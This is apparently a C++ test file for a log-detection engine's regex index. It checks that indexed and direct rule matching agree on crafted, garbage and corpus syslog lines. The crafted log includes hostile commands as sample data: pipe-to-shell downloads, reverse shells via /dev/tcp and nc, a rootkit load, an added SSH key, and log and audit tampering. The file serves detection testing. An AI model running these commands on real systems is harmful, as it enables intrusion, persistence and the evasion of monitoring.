// The combined regex index must answer exactly as each rule's own regexes: every built-in rule
// is evaluated both ways over real syslog lines, lines written to fire the regex rules, and
// garbage.
#include <catch2/catch.hpp>

#include <random>

#include "detect/rules/regex_index.h"
#include "detect_test_support.h"
#include "support/test_support.h"

using namespace bulwark::detect;
namespace fs = std::filesystem;

namespace {

std::vector<Rule> builtInRules(KeyTable& keys) {
  fs::path root = bulwark::test::sourceDir();
  std::vector<Rule> rules = loadRulesPath((root / "config" / "rules").string(), keys);
  for (const auto& plugin : fs::directory_iterator(root / "plugins")) {
    fs::path dir = plugin.path() / "rules";
    if (!fs::is_directory(dir)) continue;
    auto more = loadRulesPath(dir.string(), keys);
    rules.insert(rules.end(), more.begin(), more.end());
  }
  return rules;
}

// Lines meant to fire the built-in regex rules (and near misses that must not).
const char* const kCraftedLog =
    "Nov 29 01:00:00 web1 bash[1]: curl -s http://203.0.113.9/x.sh | sudo bash\n"
    "Nov 29 01:00:01 web1 bash[1]: wget -qO- http://203.0.113.9/a | python3\n"
    "Nov 29 01:00:02 web1 bash[1]: history -c\n"
    "Nov 29 01:00:03 web1 bash[1]: unset HISTFILE\n"
    "Nov 29 01:00:04 web1 bash[1]: rm -f /root/.bash_history\n"
    "Nov 29 01:00:05 web1 kernel: xmrig: stratum+tcp://pool.example:3333 --donate-level 1\n"
    "Nov 29 01:00:06 web1 bash[1]: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"
    "Nov 29 01:00:07 web1 bash[1]: insmod /tmp/rootkit.ko\n"
    "Nov 29 01:00:08 web1 bash[1]: modprobe -r usb_storage\n"
    "Nov 29 01:00:09 web1 login[2]: ROOT LOGIN  ON tty1\n"
    "Nov 29 01:00:10 web1 useradd[3]: new user: name=evil, UID=1001\n"
    "Nov 29 01:00:11 web1 usermod[4]: add 'evil' to group 'sudo'\n"
    "Nov 29 01:00:12 web1 bash[1]: echo ssh-rsa AAAA >> /root/.ssh/authorized_keys\n"
    "Nov 29 01:00:13 web1 bash[1]: systemctl stop auditd\n"
    "Nov 29 01:00:14 web1 bash[1]: systemctl enable --now evil.service\n"
    "Nov 29 01:00:15 web1 bash[1]: > /var/log/auth.log\n"
    "Nov 29 01:00:16 web1 bash[1]: journalctl --vacuum-time=1s\n"
    "Nov 29 01:00:17 web1 CRON[5]: (root) REPLACE (root)\n"
    "Nov 29 01:00:18 web1 bash[1]: echo '* * * * * x' | crontab -\n"
    "Nov 29 01:00:19 web1 bash[1]: curl http://x/y && chmod +x y && ./y\n"
    "Nov 29 01:00:20 web1 bash[1]: nc -e /bin/sh 198.51.100.7 4444\n"
    "Nov 29 01:00:21 web1 bash[1]: python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n"
    "Nov 29 01:00:22 web1 bash[1]: echo hello history ok\n"
    "Nov 29 01:00:23 web1 sshd[6]: Accepted password for root from 192.0.2.1 port 22 ssh2\n";

std::string garbageLog(size_t lines) {
  std::mt19937 rng(7);
  std::string out;
  const std::string alphabet = "abcxyz/|>&-. 019'\"\\()[]$^*+?{}\t\x01\xff\xc3\xa9";
  for (size_t i = 0; i < lines; ++i) {
    out += "Nov 29 02:00:00 host prog[1]: ";
    size_t n = rng() % 120;
    for (size_t j = 0; j < n; ++j)
      out += alphabet[rng() % alphabet.size()];
    out += '\n';
  }
  return out;
}

struct Tally {
  uint64_t events = 0;
  uint64_t matched = 0;
  uint64_t differences = 0;
};

void compareRules(const std::vector<Rule>& rules, const KeyTable& keys, RegexIndex& index,
                  const std::vector<Event>& events, Tally& tally) {
  for (const auto& e : events) {
    ++tally.events;
    index.startEvent();
    for (const auto& rule : rules) {
      bool direct = rule.match.matches(e, keys);
      bool indexed = rule.match.matches(e, keys, &index);
      if (direct != indexed) {
        ++tally.differences;
        UNSCOPED_INFO(rule.id << " differs on: " << e.raw);
      }
      tally.matched += direct ? 1 : 0;
      for (const auto& ex : rule.exceptions) {
        if (ex.matches(e, keys) != ex.matches(e, keys, &index)) ++tally.differences;
      }
      for (const auto& step : rule.steps) {
        if (step.match.matches(e, keys) != step.match.matches(e, keys, &index)) ++tally.differences;
      }
    }
  }
}

}  // namespace

TEST_CASE("regex index: every built-in rule answers as with its own regexes",
          "[detectperf][regex]") {
  KeyTable keys;
  std::vector<Rule> rules = builtInRules(keys);
  REQUIRE(rules.size() >= 30);
  RegexIndex index;
  index.build(rules);
  CHECK(index.slots() >= 2);      // message, path, url, status... at least two fields
  CHECK(index.patterns() >= 40);  // the linux pack alone has dozens

  Tally tally;
  auto crafted = bulwark::test::readText(keys, "syslog", kCraftedLog);
  REQUIRE(crafted.stats.failed == 0);
  compareRules(rules, keys, index, crafted.events, tally);
  const uint64_t craftedMatches = tally.matched;
  CHECK(craftedMatches >= 15);  // the crafted lines do fire the regex rules

  auto garbage = bulwark::test::readText(keys, "syslog", garbageLog(3000));
  compareRules(rules, keys, index, garbage.events, tally);

  fs::path corpus = bulwark::test::corpusDir();
  if (corpus.empty()) {
    WARN("corpus absent: the regex index is compared on crafted and garbage lines only");
  } else {
    for (const char* name : {"Linux/Linux_2k.log", "OpenSSH/OpenSSH_2k.log"}) {
      fs::path file = corpus / "logs" / "loghub" / name;
      if (!fs::exists(file)) continue;
      auto read = bulwark::test::readPath(keys, "syslog", file.string());
      CHECK(read.events.size() > 1000);
      compareRules(rules, keys, index, read.events, tally);
    }
  }
  CHECK(tally.events > 3000);
  CHECK(tally.differences == 0);
}

TEST_CASE("regex index: tests sharing a pattern share one entry, and unindexed tests still work",
          "[detectperf][regex]") {
  KeyTable keys;
  auto rules = loadRulesText(
      "- id: a\n  title: A\n  severity: Low\n  match:\n    message: {regex: ['fo+', 'ba[rz]']}\n"
      "- id: b\n  title: B\n  severity: Low\n  match:\n    message: {regex: 'fo+'}\n"
      "- id: c\n  title: C\n  severity: Low\n  match:\n    user: {regex: '^root$'}\n",
      "t.yaml", keys);
  RegexIndex index;
  index.build(rules);
  CHECK(index.slots() == 2);
  CHECK(index.patterns() == 3);
  auto check = [&](const std::string& message, const std::string& user, bool a, bool b, bool c) {
    Event e = bulwark::test::makeEvent(keys, "t", 0, {{"message", message}, {"user", user}});
    index.startEvent();
    CHECK(rules[0].match.matches(e, keys, &index) == a);
    CHECK(rules[1].match.matches(e, keys, &index) == b);
    CHECK(rules[2].match.matches(e, keys, &index) == c);
  };
  check("xfooy", "root", true, true, true);
  check("baz", "rooted", true, false, false);
  check("nothing", "root", false, false, true);
  // A new event must not see the previous event's answers.
  check("bar", "x", true, false, false);
}
